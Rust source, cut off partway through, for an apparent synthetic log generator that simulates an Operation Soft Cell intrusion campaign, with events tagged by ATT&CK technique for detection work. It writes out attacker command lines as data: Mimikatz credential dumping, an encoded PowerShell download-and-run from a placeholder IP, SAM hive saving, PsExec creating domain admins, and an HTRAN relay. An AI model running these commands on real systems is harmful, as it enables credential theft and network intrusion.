//! Operation Soft Cell, wave after wave (`../shared/docs/softcell.md` §1, stages 1–10): a web
//! shell on an Internet-facing server, discovery, credential theft, lateral movement with
//! stolen and replayed credentials, side-loaded persistence and the actor's own domain admins,
//! a relay, targeted CDR queries for a few subscribers over years of history, password-protected
//! split RAR archives in the Recycle Bin, exfiltration through the web server, and a VPN for
//! later. Each wave re-enters through a web server after the last was cleaned up, with its
//! tools renamed or rebuilt and new infrastructure. Every event is labelled with its wave,
//! stage and ATT&CK technique as it is emitted.

use serde::Serialize;

use crate::background::Background;
use crate::cdr::TheftQuery;
use crate::clock::{self, DAY, HOUR, MINUTE, SECOND};
use crate::db::{Session, Statement};
use crate::dice::Dice;
use crate::flows::{self, Flow};
use crate::sink::{Label, Sink};
use crate::web::{self, Request};
use crate::windows::{exe, Exe, Machine, Proc, Who};
use crate::world::{World, DOMAIN_SID};
use crate::{Config, Estate};

/// The stages of softcell.md §1 the campaign plays.
pub const STAGES: [(u8, &str); 10] = [
    (1, "initial access / web shell"),
    (2, "discovery"),
    (3, "credential access"),
    (4, "lateral movement"),
    (5, "persistence"),
    (6, "command and control / relay"),
    (7, "CDR collection"),
    (8, "staging"),
    (9, "exfiltration"),
    (10, "long-term access (VPN)"),
];

/// What one wave brought and where it went.
#[derive(Debug, Clone, Serialize)]
pub struct WaveTruth {
    pub wave: u8,
    pub start: String,
    pub end: String,
    pub entry_host: String,
    pub web_shell: String,
    pub attacker_ip: String,
    pub c2_ip: String,
    pub c2_domain: String,
    pub hosts: Vec<String>,
    pub accounts_created: Vec<String>,
    pub db_account: String,
    pub collection_host: String,
    pub tools: Vec<String>,
    pub targets: Vec<String>,
}

/// A statement of the campaign's CDR collection, rendered when its hour comes so that its
/// audit line carries the rows the generated CDRs really gave it.
struct DbStep {
    time: i64,
    session: usize,
    action: DbAction,
    label: Label,
}

enum DbAction {
    Connect,
    Run(Statement, usize),
    Disconnect,
}

pub struct Campaign {
    pub waves: Vec<WaveTruth>,
    pub queries: Vec<TheftQuery>,
    pub targets: Vec<String>,
    sessions: Vec<Session>,
    db_steps: Vec<DbStep>,
    next_step: usize,
}

struct Kit {
    wave: u8,
    entry: &'static str,
    shell: String,
    attacker: String,
    c2: String,
    c2_domain: String,
    dir: &'static str,
    renamed: bool,
    build: u32,
    da_account: String,
    collect_host: &'static str,
    db_user: &'static str,
    marker: (&'static str, &'static str),
}

struct Ctx<'a> {
    world: &'a World,
    estate: &'a Estate,
    dice: Dice,
    kit: Kit,
    truth: WaveTruth,
}

impl<'a> Ctx<'a> {
    fn m(&self, host: &str) -> Machine<'a> {
        self.estate.machine(self.world, self.world.host(host))
    }

    fn label(&self, sink: &mut Sink, stage: u8, technique: &'static str, what: &'static str) {
        sink.set_label(Some(Label {
            wave: self.kit.wave,
            stage,
            technique,
            what,
        }));
    }

    fn touch(&mut self, host: &str) {
        if !self.truth.hosts.iter().any(|h| h == host) {
            self.truth.hosts.push(host.to_string());
        }
    }

    fn tool(&mut self, path: &str) -> String {
        if !self.truth.tools.iter().any(|t| t == path) {
            self.truth.tools.push(path.to_string());
        }
        path.to_string()
    }

    fn ip(&self, host: &str) -> String {
        self.world.hosts[self.world.host(host)].ip.clone()
    }

    #[allow(clippy::too_many_arguments)]
    fn flow(
        &mut self,
        sink: &mut Sink,
        t: i64,
        orig: (&str, u16),
        resp: (&str, u16),
        service: &str,
        dur: f64,
        ob: u64,
        rb: u64,
    ) {
        let line = flows::line(
            &mut self.dice,
            t,
            &Flow {
                orig,
                resp,
                proto: "tcp",
                service,
                duration_s: dur,
                orig_bytes: ob,
                resp_bytes: rb,
            },
        );
        sink.text(self.estate.flows, t, line);
    }
}

impl Campaign {
    /// Plans every wave and emits its Windows, web and flow events into the sink (they are
    /// written when their time comes); CDR-store statements wait for [`Campaign::db_until`].
    pub fn plan(
        cfg: &Config,
        world: &World,
        estate: &Estate,
        bg: &Background<'_>,
        sink: &mut Sink,
    ) -> Campaign {
        let mut dice = Dice::new(cfg.seed, "campaign");
        let mut pool: Vec<usize> = (0..world.subscribers.len()).collect();
        let mut targets = Vec::new();
        for _ in 0..cfg.targets.min(pool.len()) {
            let i = dice.index(pool.len());
            targets.push(world.subscribers[pool.swap_remove(i)].msisdn.clone());
        }
        let mut campaign = Campaign {
            waves: Vec::new(),
            queries: Vec::new(),
            targets: targets.clone(),
            sessions: Vec::new(),
            db_steps: Vec::new(),
            next_step: 0,
        };
        let span = (cfg.days as i64 * DAY - 4 * DAY).max(DAY);
        for w in 1..=cfg.waves {
            let wave_targets: Vec<String> = targets
                .iter()
                .enumerate()
                .filter(|(i, _)| i % cfg.waves as usize == (w - 1) as usize || dice.chance(0.7))
                .map(|(_, m)| m.clone())
                .collect();
            let day0 = cfg.start + DAY + span * i64::from(w - 1) / i64::from(cfg.waves);
            // Late evening, operator time.
            let t0 = day0 - day0.rem_euclid(DAY)
                + (22 * HOUR - i64::from(cfg.utc_offset_min) * MINUTE).rem_euclid(DAY)
                + dice.range(0, 90) * MINUTE;
            let renamed = w > 1 || cfg.stealth >= 0.8;
            let kit = Kit {
                wave: w,
                entry: if w % 2 == 0 { "WEB02" } else { "WEB01" },
                shell: [
                    "errorEE.aspx",
                    "logon_sso.aspx",
                    "OutlookEN.aspx",
                    "health.aspx",
                ][(w as usize - 1) % 4]
                    .into(),
                attacker: format!("203.0.113.{}", 20 + 17 * w),
                c2: format!("198.51.100.{}", 30 + 23 * w),
                c2_domain: [
                    "asyspy256.ddns.net",
                    "sz2016rose.ddns.net",
                    "cvdfhjh1231.myftp.biz",
                    "rosaf112.ddns.net",
                ][(w as usize - 1) % 4]
                    .into(),
                dir: [
                    "C:\\ProgramData\\Samsung",
                    "C:\\ProgramData\\Microsoft\\DeviceSync",
                    "C:\\Users\\Public\\Libraries\\Intel",
                    "C:\\ProgramData\\Adobe\\ARM",
                ][(w as usize - 1) % 4],
                renamed,
                build: u32::from(w),
                da_account: ["svc_sync", "nwm_helpdesk2", "backup_adm", "sql_svc01"]
                    [(w as usize - 1) % 4]
                    .into(),
                collect_host: ["FS01", "JUMP01", "BKP01"][(w as usize - 1) % 3],
                db_user: ["care_app", "dba_x", "bi_reader"][(w as usize - 1) % 3],
                marker: if w == 1 {
                    ("[S]", "[E]")
                } else {
                    ("[B]", "[F]")
                },
            };
            let truth = WaveTruth {
                wave: w,
                start: clock::rfc3339(t0),
                end: String::new(),
                entry_host: kit.entry.into(),
                web_shell: String::new(),
                attacker_ip: kit.attacker.clone(),
                c2_ip: kit.c2.clone(),
                c2_domain: kit.c2_domain.clone(),
                hosts: Vec::new(),
                accounts_created: vec![kit.da_account.clone()],
                db_account: String::new(),
                collection_host: kit.collect_host.into(),
                tools: Vec::new(),
                targets: wave_targets.clone(),
            };
            let mut ctx = Ctx {
                world,
                estate,
                dice: Dice::new(cfg.seed, &format!("wave{w}")),
                kit,
                truth,
            };
            let end = campaign.wave(&mut ctx, bg, sink, t0, &wave_targets);
            ctx.truth.end = clock::rfc3339(end);
            campaign.waves.push(ctx.truth);
        }
        sink.set_label(None);
        campaign
    }

    fn wave(
        &mut self,
        c: &mut Ctx<'_>,
        bg: &Background<'_>,
        sink: &mut Sink,
        t0: i64,
        targets: &[String],
    ) -> i64 {
        let world = c.world;
        let entry = c.kit.entry;
        c.touch(entry);
        let web = c.m(entry);
        let iis = entry == "WEB01";
        let parent = if iis {
            bg.w3wp().clone()
        } else {
            bg.java().clone()
        };
        let attacker = c.kit.attacker.clone();
        let mut t = t0;

        // Stage 1: exploit the public server, plant the shell.
        let shell_path = if iis {
            format!(
                "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{}",
                c.kit.shell
            )
        } else {
            format!(
                "C:\\wildfly\\standalone\\deployments\\{}.war",
                c.kit.shell.trim_end_matches(".aspx")
            )
        };
        let shell_uri = if iis {
            format!("/aspnet_client/system_web/{}", c.kit.shell)
        } else {
            format!("/{}/index.jsp", c.kit.shell.trim_end_matches(".aspx"))
        };
        c.truth.web_shell = shell_path.clone();
        c.label(
            sink,
            1,
            "T1190",
            "exploit attempts against the public server",
        );
        if iis {
            let stream = c.estate.web[world.host("WEB01")].expect("WEB01 logs W3C");
            for i in 0..(12 + c.dice.index(10)) {
                let stem = *c.dice.pick(&[
                    "/selfcare/upload.aspx",
                    "/selfcare/Telerik.Web.UI.WebResource.axd",
                    "/selfcare/login.aspx",
                    "/aspnet_client/",
                    "/selfcare/ScriptResource.axd",
                ]);
                let status = *c.dice.pick(&[500, 500, 404, 403, 200]);
                let line = web::line(t + i as i64 * 20 * SECOND, "10.20.0.10", &Request {
                    method: if i % 3 == 0 { "GET" } else { "POST" },
                    stem,
                    query: if stem.ends_with(".axd") { "type=rau" } else { "" },
                    port: 443,
                    user: "",
                    client: &attacker,
                    agent: "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.0) Gecko/20100101 Firefox/45.0",
                    referer: "",
                    status,
                    sc_bytes: if status == 500 { 3_420 } else { 1_245 },
                    cs_bytes: 900 + c.dice.below(40_000),
                    time_taken_ms: 40 + c.dice.below(900),
                });
                sink.text(stream, t + i as i64 * 20 * SECOND, line);
            }
        }
        t += 8 * MINUTE;
        c.label(
            sink,
            1,
            "T1505.003",
            "web shell written by the web server process",
        );
        web.file(sink, t, &parent, &shell_path);
        let shell_req = |c: &mut Ctx<'_>, sink: &mut Sink, t: i64, bytes: u64| {
            if let Some(stream) = c.estate.web[world.host("WEB01")].filter(|_| iis) {
                let line = web::line(
                    t,
                    "10.20.0.10",
                    &Request {
                        method: "POST",
                        stem: &shell_uri,
                        query: "",
                        port: 443,
                        user: "",
                        client: &attacker,
                        agent: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
                        referer: "",
                        status: 200,
                        sc_bytes: bytes,
                        cs_bytes: 300 + c.dice.below(700),
                        time_taken_ms: 200 + c.dice.below(3000),
                    },
                );
                sink.text(stream, t, line);
            }
        };
        shell_req(c, sink, t + 30 * SECOND, 120);
        t += MINUTE;

        // Stage 2: discovery through the shell. Every command is one request and one cmd.exe.
        let webroot = if iis {
            "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\"
        } else {
            "C:\\wildfly\\bin\\"
        };
        let (s_mark, e_mark) = c.kit.marker;
        let dir = c.kit.dir;
        let shell_cmd = |c: &mut Ctx<'_>,
                         sink: &mut Sink,
                         t: i64,
                         stage: u8,
                         technique: &'static str,
                         what: &'static str,
                         tool: Exe<'_>,
                         line: &str|
         -> Proc {
            c.label(sink, 1, "T1505.003", "web shell request");
            let bytes = 400 + c.dice.below(6000);
            shell_req(c, sink, t - 2 * SECOND, bytes);
            c.label(
                sink,
                1,
                "T1059.003",
                "command shell spawned by the web server",
            );
            let cmd = web.spawn(
                sink,
                &mut c.dice,
                t,
                &parent,
                exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
                format!("cmd /c cd /d \"{webroot}\"&{line}&echo {s_mark}&cd&echo {e_mark}"),
            );
            c.label(sink, stage, technique, what);
            web.spawn(sink, &mut c.dice, t + 300_000, &cmd, tool, line.to_string())
        };
        let recon: Vec<(&'static str, &'static str, Exe<'static>, &'static str)> = vec![
            (
                "T1033",
                "owner discovery",
                exe("C:\\Windows\\System32\\whoami.exe", "whoami.exe"),
                "whoami",
            ),
            (
                "T1016",
                "network configuration discovery",
                exe("C:\\Windows\\System32\\ipconfig.exe", "ipconfig.exe"),
                "ipconfig /all",
            ),
            (
                "T1049",
                "network connections discovery",
                exe("C:\\Windows\\System32\\NETSTAT.EXE", "netstat.exe"),
                "netstat -oan",
            ),
            (
                "T1033",
                "logged-on users",
                exe("C:\\Windows\\System32\\quser.exe", "quser.exe"),
                "query user",
            ),
            (
                "T1069.002",
                "domain admins discovery",
                exe("C:\\Windows\\System32\\net.exe", "net.exe"),
                "net group \"domain admins\" /domain",
            ),
            (
                "T1018",
                "remote system discovery",
                exe("C:\\Windows\\System32\\net.exe", "net.exe"),
                "net view /domain",
            ),
            (
                "T1018",
                "ping sweep",
                exe("C:\\Windows\\System32\\PING.EXE", "ping.exe"),
                "ping -n 1 10.30.0.10",
            ),
        ];
        let keep = recon.len() - (c.dice.index(3));
        for (technique, what, tool, line) in recon.into_iter().take(keep) {
            t += c.dice.range(15, 90) * SECOND;
            shell_cmd(c, sink, t, 2, technique, what, tool, line);
        }
        // NBTscan and PortQry, dropped by the shell (renamed in later waves).
        let nbt_path = c.tool(&if c.kit.renamed {
            format!("{dir}\\nbt.exe")
        } else {
            format!("{dir}\\nbtscan.exe")
        });
        let qry_path = c.tool(&format!("{dir}\\PortQry.exe"));
        t += MINUTE;
        c.label(
            sink,
            2,
            "T1105",
            "discovery tools uploaded through the shell",
        );
        shell_req(c, sink, t - SECOND, 200);
        web.file(sink, t, &parent, &nbt_path);
        web.file(sink, t + SECOND, &parent, &qry_path);
        t += 30 * SECOND;
        let nbt = shell_cmd(
            c,
            sink,
            t,
            2,
            "T1018",
            "NetBIOS scan of the CDR segment",
            Exe {
                path: &nbt_path,
                pe: "nbtscan.exe",
                build: c.kit.build,
            },
            &format!("{nbt_path} -r 10.30.0.0/24"),
        );
        let web_ip = c.ip(entry);
        for host in world.hosts.iter().filter(|h| h.ip.starts_with("10.30.0.")) {
            web.connect(
                sink,
                t + SECOND,
                &nbt,
                "udp",
                true,
                (&web_ip, 137),
                (&host.ip, 137),
            );
            let line = flows::line(
                &mut c.dice,
                t + SECOND,
                &Flow {
                    orig: (&web_ip, 137),
                    resp: (&host.ip, 137),
                    proto: "udp",
                    service: "dns",
                    duration_s: 0.01,
                    orig_bytes: 50,
                    resp_bytes: 229,
                },
            );
            sink.text(c.estate.flows, t + SECOND, line);
        }
        t += 2 * MINUTE;
        let qry = shell_cmd(
            c,
            sink,
            t,
            2,
            "T1046",
            "port probe of the CDR database",
            Exe {
                path: &qry_path,
                pe: "PortQry.exe",
                build: 0,
            },
            &format!("{qry_path} -n 10.30.0.10 -e 5432"),
        );
        web.connect(
            sink,
            t + SECOND,
            &qry,
            "tcp",
            true,
            (&web_ip, 51_330),
            ("10.30.0.10", 5432),
        );

        // Stage 3: credentials, from memory and from the registry hives.
        t += c.dice.range(10, 40) * MINUTE;
        let admins = world.accounts_of(crate::world::AccountKind::Admin);
        let stolen = admins[(c.kit.wave as usize) % admins.len()];
        let lsass = web.running(
            &mut c.dice,
            "C:\\Windows\\system32\\lsass.exe",
            "C:\\Windows\\system32\\lsass.exe",
            Who::system(),
        );
        let dumper = match c.kit.wave % 3 {
            1 => {
                let path = c.tool(&format!("{dir}\\msupd.exe"));
                c.label(sink, 3, "T1105", "credential dumper uploaded");
                shell_req(c, sink, t - SECOND, 200);
                web.file(sink, t, &parent, &path);
                shell_cmd(c, sink, t + 20 * SECOND, 3, "T1003.001", "Mimikatz (modified) dumps LSASS", Exe { path: &path, pe: "mimikatz.exe", build: c.kit.build }, &format!("{path} \"privilege::debug\" \"sekurlsa::logonpasswords\" exit > {dir}\\o.txt"))
            }
            2 => {
                let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.76:8080/s.ps1'); Invoke-Mimikatz -DumpCreds";
                let encoded = utf16_base64(script);
                let ps = shell_cmd(
                    c,
                    sink,
                    t,
                    3,
                    "T1059.001",
                    "PowerShell Mimikatz",
                    exe(
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "PowerShell.EXE",
                    ),
                    &format!("powershell.exe -nop -w hidden -enc {encoded}"),
                );
                c.label(sink, 3, "T1003.001", "PowerShell Mimikatz script block");
                web.script_block(sink, &mut c.dice, t + 2 * SECOND, &ps, &format!("{script}\r\nfunction Invoke-Mimikatz {{ ... sekurlsa::logonpasswords ... }}"));
                ps
            }
            _ => {
                let path = c.tool(&format!("{dir}\\wuauclt64.exe"));
                c.label(sink, 3, "T1105", "credential dumper uploaded");
                shell_req(c, sink, t - SECOND, 200);
                web.file(sink, t, &parent, &path);
                shell_cmd(
                    c,
                    sink,
                    t + 20 * SECOND,
                    3,
                    "T1003.001",
                    "rebuilt Mimikatz dumps LSASS",
                    Exe {
                        path: &path,
                        pe: "",
                        build: c.kit.build,
                    },
                    &format!("{path} -l -o {dir}\\wu.log"),
                )
            }
        };
        c.label(sink, 3, "T1003.001", "LSASS memory read");
        web.access(
            sink,
            t + 25 * SECOND,
            &dumper,
            &lsass,
            if c.kit.wave == 1 { "0x1010" } else { "0x1410" },
        );
        for (k, hive) in ["sam", "system"].into_iter().enumerate() {
            let tt = t + (60 + 20 * k as i64) * SECOND;
            let out = format!("{dir}\\{hive}.hiv");
            let reg = shell_cmd(
                c,
                sink,
                tt,
                3,
                "T1003.002",
                "registry hive saved for offline cracking",
                exe("C:\\Windows\\System32\\reg.exe", "reg.exe"),
                &format!("reg save hklm\\{hive} {out} /y"),
            );
            c.label(sink, 3, "T1003.002", "hive file written");
            web.file(sink, tt + SECOND, &reg, &out);
        }

        // Stage 4: move on with the stolen admin: WMI to the jump host, files over SMB,
        // PsExec to the domain controller.
        t += c.dice.range(30, 90) * MINUTE;
        let jump_ip = c.ip("JUMP01");
        let stolen_who = Who::user(&stolen.name, &stolen.sid, 0);
        let pth = c.kit.wave != 1;
        let wmic = shell_cmd(c, sink, t, 4, "T1047", "remote command through WMI", exe("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe"), &format!("wmic /node:{jump_ip} /user:NWM\\{} /password:******** process call create \"cmd /c mkdir {dir}\"", stolen.name));
        c.label(sink, 4, "T1078", "stolen admin credentials used explicitly");
        web.explicit_logon(
            sink,
            t + SECOND,
            &wmic,
            &stolen_who,
            "JUMP01.nwm.example",
            &jump_ip,
        );
        c.touch("JUMP01");
        let jump = c.m("JUMP01");
        c.label(
            sink,
            4,
            if pth { "T1550.002" } else { "T1078" },
            "network logon on the jump host with the stolen account",
        );
        let logon = jump.logon(
            sink,
            &mut c.dice,
            t + 2 * SECOND,
            &stolen_who,
            3,
            pth,
            (&web_ip, entry),
            true,
        );
        let intruder = Who::user(&stolen.name, &stolen.sid, logon);
        let wmiprvse = jump.running(
            &mut c.dice,
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            Who::system(),
        );
        c.label(
            sink,
            4,
            "T1047",
            "WMI provider host runs the intruder's command",
        );
        let mut jcmd = jump.spawn_as(
            sink,
            &mut c.dice,
            t + 3 * SECOND,
            &wmiprvse,
            exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
            format!("cmd /c mkdir {dir}"),
            intruder.clone(),
        );
        jcmd.integrity = "High";
        c.flow(
            sink,
            t + SECOND,
            (&web_ip, 49_702),
            (&jump_ip, 135),
            "dce_rpc",
            1.2,
            4_200,
            3_900,
        );
        // Tools over the admin share.
        t += 2 * MINUTE;
        let share_cmd = format!(
            "copy {dir}\\*.* \\\\{jump_ip}\\c$\\{}\\",
            dir.trim_start_matches("C:\\")
        );
        shell_cmd(
            c,
            sink,
            t,
            4,
            "T1570",
            "tools copied to the jump host over SMB",
            exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
            &share_cmd,
        );
        c.label(sink, 4, "T1570", "tools written over the admin share");
        jump.share_access(
            sink,
            t + SECOND,
            &intruder,
            &web_ip,
            "C$",
            &format!("{}\\RunHelp.exe", dir.trim_start_matches("C:\\")),
        );
        let system4 = Proc {
            guid: "{00000000-0000-0000-0000-000000000004}".into(),
            pid: 4,
            image: "System".into(),
            cmd: String::new(),
            who: Who::system(),
            integrity: "System",
        };
        let side_exe = c.tool(&format!("{dir}\\RunHelp.exe"));
        let side_dll = c.tool(&format!("{dir}\\ssMUIDLL.dll"));
        let htran_path = c.tool(&if c.kit.renamed {
            format!("{dir}\\dsync.exe")
        } else {
            format!("{dir}\\htran.exe")
        });
        let rar_path = c.tool(&if c.kit.renamed {
            format!("{dir}\\ds.exe")
        } else {
            format!("{dir}\\rar.exe")
        });
        for (k, f) in [
            &side_exe,
            &side_dll,
            &format!("{dir}\\RunHelp.dat"),
            &htran_path,
            &rar_path,
        ]
        .into_iter()
        .enumerate()
        {
            jump.file(sink, t + (2 + k as i64) * SECOND, &system4, f);
        }
        c.flow(
            sink,
            t + SECOND,
            (&web_ip, 49_744),
            (&jump_ip, 445),
            "smb",
            8.0,
            4_800_000,
            12_000,
        );
        // PsExec from the jump host to the domain controller, as SYSTEM, with a renamed service.
        t += c.dice.range(10, 30) * MINUTE;
        let dc_ip = c.ip("DC01");
        let svc_name = if c.kit.renamed {
            "WinMgmtHelper"
        } else {
            "PSEXESVC"
        };
        let psexec_path = c.tool(&format!("{dir}\\pse.exe"));
        c.label(sink, 4, "T1570", "PsExec to the domain controller");
        jump.file(sink, t - MINUTE, &system4, &psexec_path);
        jump.spawn(sink, &mut c.dice, t, &jcmd, Exe { path: &psexec_path, pe: "psexec.c", build: 0 }, format!("{psexec_path} \\\\{dc_ip} -accepteula -s -r {svc_name} cmd.exe /c \"net user {da} P@ssw0rd!{w} /add /domain & net group \\\"Domain Admins\\\" {da} /add /domain\"", da = c.kit.da_account, w = c.kit.wave));
        c.touch("DC01");
        let dc = c.m("DC01");
        let dc_logon = dc.logon(
            sink,
            &mut c.dice,
            t + SECOND,
            &stolen_who,
            3,
            pth,
            (&jump_ip, "JUMP01"),
            true,
        );
        let dc_who = Who::user(&stolen.name, &stolen.sid, dc_logon);
        dc.share_access(
            sink,
            t + 2 * SECOND,
            &dc_who,
            &jump_ip,
            "ADMIN$",
            &format!("{svc_name}.exe"),
        );
        dc.service(
            sink,
            t + 3 * SECOND,
            &dc_who,
            svc_name,
            &format!("%SystemRoot%\\{svc_name}.exe"),
        );
        let dc_services = bg.services(world.host("DC01")).clone();
        let svc = dc.spawn(
            sink,
            &mut c.dice,
            t + 4 * SECOND,
            &dc_services,
            Exe {
                path: &format!("C:\\Windows\\{svc_name}.exe"),
                pe: "psexesvc.exe",
                build: 0,
            },
            format!("C:\\Windows\\{svc_name}.exe"),
        );
        dc.pipe(sink, t + 4 * SECOND, &svc, &format!("\\{svc_name}"));
        c.flow(
            sink,
            t,
            (&jump_ip, 50_112),
            (&dc_ip, 445),
            "smb",
            3.0,
            380_000,
            9_000,
        );

        // Stage 5: the actor's own domain admin, then side-loaded PoisonIvy kept by a task.
        c.label(
            sink,
            5,
            "T1136.002",
            "domain account created by the intruder",
        );
        let da = c.kit.da_account.clone();
        let da_sid = format!("{DOMAIN_SID}-{}", 7100 + u32::from(c.kit.wave));
        let dc_cmd = dc.spawn(sink, &mut c.dice, t + 5 * SECOND, &svc, exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"), format!("cmd.exe /c \"net user {da} P@ssw0rd!{w} /add /domain & net group \"Domain Admins\" {da} /add /domain\"", w = c.kit.wave));
        dc.spawn(
            sink,
            &mut c.dice,
            t + 6 * SECOND,
            &dc_cmd,
            exe("C:\\Windows\\System32\\net.exe", "net.exe"),
            format!("net user {da} P@ssw0rd!{w} /add /domain", w = c.kit.wave),
        );
        dc.account_created(sink, t + 7 * SECOND, &Who::system(), &da, &da_sid);
        c.label(
            sink,
            5,
            "T1098",
            "intruder's account added to Domain Admins",
        );
        dc.spawn(
            sink,
            &mut c.dice,
            t + 8 * SECOND,
            &dc_cmd,
            exe("C:\\Windows\\System32\\net.exe", "net.exe"),
            format!("net group \"Domain Admins\" {da} /add /domain"),
        );
        dc.member_added(
            sink,
            t + 9 * SECOND,
            &Who::system(),
            &da,
            &da_sid,
            "Domain Admins",
            true,
        );
        t += c.dice.range(20, 60) * MINUTE;
        c.label(
            sink,
            5,
            "T1053.005",
            "scheduled task for the side-loading host",
        );
        let task_name = if c.kit.renamed {
            "Microsoft\\Windows\\DeviceSync\\Sync"
        } else {
            "SamsungHelp"
        };
        jump.spawn(
            sink,
            &mut c.dice,
            t,
            &jcmd,
            exe("C:\\Windows\\System32\\schtasks.exe", "schtasks.exe"),
            format!(
                "schtasks /create /tn \"{task_name}\" /tr \"{side_exe}\" /sc onstart /ru SYSTEM /f"
            ),
        );
        jump.task(sink, t + SECOND, &intruder, task_name, &side_exe, "");
        let sched = jump.running(
            &mut c.dice,
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            Who::system(),
        );
        c.label(
            sink,
            5,
            "T1574.001",
            "signed vendor binary run from ProgramData side-loads the implant",
        );
        let implant = jump.spawn(
            sink,
            &mut c.dice,
            t + 5 * SECOND,
            &sched,
            Exe {
                path: &side_exe,
                pe: "RunHelp.exe",
                build: 0,
            },
            format!("\"{side_exe}\""),
        );
        jump.image_load(sink, t + 6 * SECOND, &implant, &side_dll, false);
        if c.kit.renamed {
            c.label(sink, 5, "T1547.001", "Run key for the side-loading host");
            jump.registry(
                sink,
                t + 8 * SECOND,
                &implant,
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\DeviceSync",
                &side_exe,
            );
        }
        c.label(sink, 5, "T1036.003", "renamed command shell");
        let renamed_cmd = format!("{dir}\\cmdhlp.exe");
        c.tool(&renamed_cmd);
        jump.file(sink, t + 20 * SECOND, &implant, &renamed_cmd);
        let ecmd = jump.spawn(
            sink,
            &mut c.dice,
            t + 30 * SECOND,
            &implant,
            Exe {
                path: &renamed_cmd,
                pe: "Cmd.Exe",
                build: 0,
            },
            format!("{renamed_cmd} /c hostname"),
        );

        // Stage 6: PoisonIvy beacons to dynamic DNS; the relay between segments.
        c.label(sink, 6, "T1071.001", "implant beacon to dynamic-DNS C2");
        let c2 = c.kit.c2.clone();
        jump.dns(
            sink,
            t + 40 * SECOND,
            &implant,
            &c.kit.c2_domain.clone(),
            &c2,
        );
        for k in 0..6 {
            let tt = t + 41 * SECOND + k * 17 * MINUTE;
            jump.connect(
                sink,
                tt,
                &implant,
                "tcp",
                true,
                (&jump_ip, 50_900 + k as u16),
                (&c2, 443),
            );
            c.flow(
                sink,
                tt,
                (&jump_ip, 50_900 + k as u16),
                (&c2, 443),
                "ssl",
                4.0,
                2_300,
                1_800,
            );
        }
        t += 30 * MINUTE;
        c.label(sink, 6, "T1090.002", "HTRAN relay started");
        let relay_args = if c.kit.renamed {
            format!("-s {c2} 8443 10.30.0.10 5432")
        } else {
            format!("-slave {c2} 8443 10.30.0.10 5432")
        };
        let relay = jump.spawn(
            sink,
            &mut c.dice,
            t,
            &ecmd,
            Exe {
                path: &htran_path,
                pe: if c.kit.renamed { "" } else { "htran.exe" },
                build: c.kit.build,
            },
            format!("{htran_path} {relay_args}"),
        );
        for k in 0..3 {
            let tt = t + (5 + 600 * k) * SECOND;
            jump.connect(
                sink,
                tt,
                &relay,
                "tcp",
                true,
                (&jump_ip, 51_200 + k as u16),
                (&c2, 8443),
            );
            jump.connect(
                sink,
                tt + SECOND,
                &relay,
                "tcp",
                true,
                (&jump_ip, 51_300 + k as u16),
                ("10.30.0.10", 5432),
            );
            let bytes = 40_000 + c.dice.below(200_000);
            c.flow(
                sink,
                tt,
                (&jump_ip, 51_200 + k as u16),
                (&c2, 8443),
                "ssl",
                300.0,
                bytes,
                bytes / 9,
            );
            c.flow(
                sink,
                tt + SECOND,
                (&jump_ip, 51_300 + k as u16),
                ("10.30.0.10", 5432),
                "postgresql",
                299.0,
                bytes / 9,
                bytes,
            );
        }

        // Stage 7: the CDR queries, from a host that is no application server, at night.
        let host = c.kit.collect_host;
        c.touch(host);
        let cm = c.m(host);
        let chost_ip = c.ip(host);
        let mut ccmd = jcmd.clone();
        if host != "JUMP01" {
            t += 20 * MINUTE;
            c.label(sink, 4, "T1047", "WMI to the collection host");
            jump.spawn(
                sink,
                &mut c.dice,
                t,
                &ecmd,
                exe("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe"),
                format!("wmic /node:{chost_ip} process call create \"cmd /c mkdir {dir}\""),
            );
            let l = cm.logon(
                sink,
                &mut c.dice,
                t + SECOND,
                &stolen_who,
                3,
                pth,
                (&jump_ip, "JUMP01"),
                true,
            );
            let w = Who::user(&stolen.name, &stolen.sid, l);
            let prv = cm.running(
                &mut c.dice,
                "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                Who::system(),
            );
            ccmd = cm.spawn_as(
                sink,
                &mut c.dice,
                t + 2 * SECOND,
                &prv,
                exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
                format!("cmd /c mkdir {dir}"),
                w,
            );
            c.label(sink, 4, "T1570", "tools copied to the collection host");
            for f in [
                &rar_path,
                &format!("{dir}\\psql.exe"),
                &format!("{dir}\\libpq.dll"),
            ] {
                cm.file(sink, t + 5 * SECOND, &system4, f);
            }
        }
        let psql_path = if host == "JUMP01" {
            "C:\\Program Files\\PostgreSQL\\15\\bin\\psql.exe".to_string()
        } else {
            format!("{dir}\\psql.exe")
        };
        c.tool(&psql_path);
        let db_user = if c.kit.db_user == "dba_x" {
            world.accounts_of(crate::world::AccountKind::Dba)[0]
                .name
                .replace('.', "_")
        } else {
            c.kit.db_user.to_string()
        };
        c.truth.db_account = db_user.clone();
        let chunks: Vec<&[String]> = targets.chunks(targets.len().div_ceil(2).max(1)).collect();
        let night0 =
            next_local(t + 2 * HOUR, 2, c.estate.utc_offset_min) + c.dice.range(0, 40) * MINUTE;
        for (n, chunk) in chunks.iter().enumerate() {
            let tt = night0 + n as i64 * DAY + c.dice.range(0, 30) * MINUTE;
            let out = format!("{dir}\\r{}.csv", n + 1);
            c.label(
                sink,
                7,
                "T1005",
                "database client run on a host that is no DB or application server",
            );
